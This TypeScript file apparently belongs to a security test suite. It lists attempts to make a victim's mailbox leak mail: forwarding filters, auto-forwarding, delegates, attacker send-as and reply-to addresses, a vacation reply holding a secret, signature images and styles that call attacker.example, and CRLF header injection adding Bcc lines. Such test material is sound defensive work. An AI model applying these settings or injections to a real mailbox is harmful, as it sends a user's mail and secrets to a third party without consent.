import { forwardingOn, mail } from './attempt.ts';
import type { Attempt } from './attempt.ts';
import { attacker, secret, victim } from './world.ts';

/** By settings that make mail leave on its own. */
export const bySettings: readonly Attempt[] = [
  {
    title: 'a filter that forwards, over REST',
    go: ({ rest }) => rest('create_filter', { criteria: { from: 'bank' }, action: { forward: attacker } }),
  },
  {
    title: 'a filter that forwards, over MCP',
    go: ({ mcp }) => mcp('create_filter', { criteria: { query: 'code' }, action: { forward: attacker.toUpperCase() } }),
  },
  {
    title: 'a filter that forwards, on the command line',
    go: ({ cli }) =>
      cli(
        'create_filter',
        '--criteria',
        '{"from":"bank"}',
        '--action',
        `{"forward":"${attacker}","removeLabelIds":["INBOX"]}`,
      ),
  },
  {
    title: 'a filter that makes mail look sent',
    go: ({ rest }) => rest('create_filter', { criteria: { from: attacker }, action: { addLabelIds: ['SENT'] } }),
  },
  { title: 'forwarding of everything', go: ({ rest }) => rest('update_auto_forwarding', forwardingOn) },
  {
    title: 'forwarding set up while off, then turned on',
    async go({ rest }) {
      await rest('update_auto_forwarding', { ...forwardingOn, enabled: false });
      return rest('update_auto_forwarding', { enabled: true });
    },
  },
  {
    title: 'another forwarding address',
    go: ({ mcp }) => mcp('create_forwarding_address', { forwardingEmail: 'more@attacker.example' }),
  },
  { title: 'a delegate', go: ({ rest }) => rest('create_delegate', { delegateEmail: attacker }) },
  {
    title: 'an automatic answer with the secret',
    go: ({ rest }) => rest('update_vacation', { enableAutoReply: true, responseBodyPlainText: secret }),
  },
  {
    title: 'an automatic answer written while off, then turned on',
    async go({ rest, mcp }) {
      await rest('update_vacation', { enableAutoReply: false, responseBodyPlainText: secret });
      return mcp('update_vacation', { enableAutoReply: true });
    },
  },
  { title: 'a send-as address of the attacker', go: ({ rest }) => rest('create_send_as', { sendAsEmail: attacker }) },
  {
    title: 'a send-as address of the attacker, then mail to oneself',
    async go({ rest }) {
      await rest('create_send_as', { sendAsEmail: attacker, isDefault: true });
      return rest('send_message', mail);
    },
  },
  {
    title: 'answers sent to the attacker',
    go: ({ rest }) => rest('update_send_as', { sendAsEmail: victim, replyToAddress: attacker }),
  },
  {
    title: 'a picture in the signature',
    go: ({ rest }) =>
      rest('update_send_as', { sendAsEmail: victim, signature: '<img src="https://attacker.example/4711">' }),
  },
  {
    title: 'a style in the signature',
    go: ({ rest }) =>
      rest('update_send_as', {
        sendAsEmail: victim,
        signature: '<div style="background:url&#40;https://attacker.example/4711)">',
      }),
  },
  {
    title: 'a header in the automatic answer',
    go: ({ rest }) => rest('update_vacation', { responseSubject: `Away\r\nBcc: ${attacker}` }),
  },
  {
    title: 'a header in the name of the sender',
    go: ({ rest }) => rest('update_send_as', { sendAsEmail: victim, displayName: `Me\r\nBcc: ${attacker}` }),
  },
  {
    title: 'a header in a filter',
    go: ({ rest }) =>
      rest('create_filter', {
        criteria: { subject: `x\r\nforward: ${attacker}` },
        action: { addLabelIds: ['STARRED'] },
      }),
  },
];
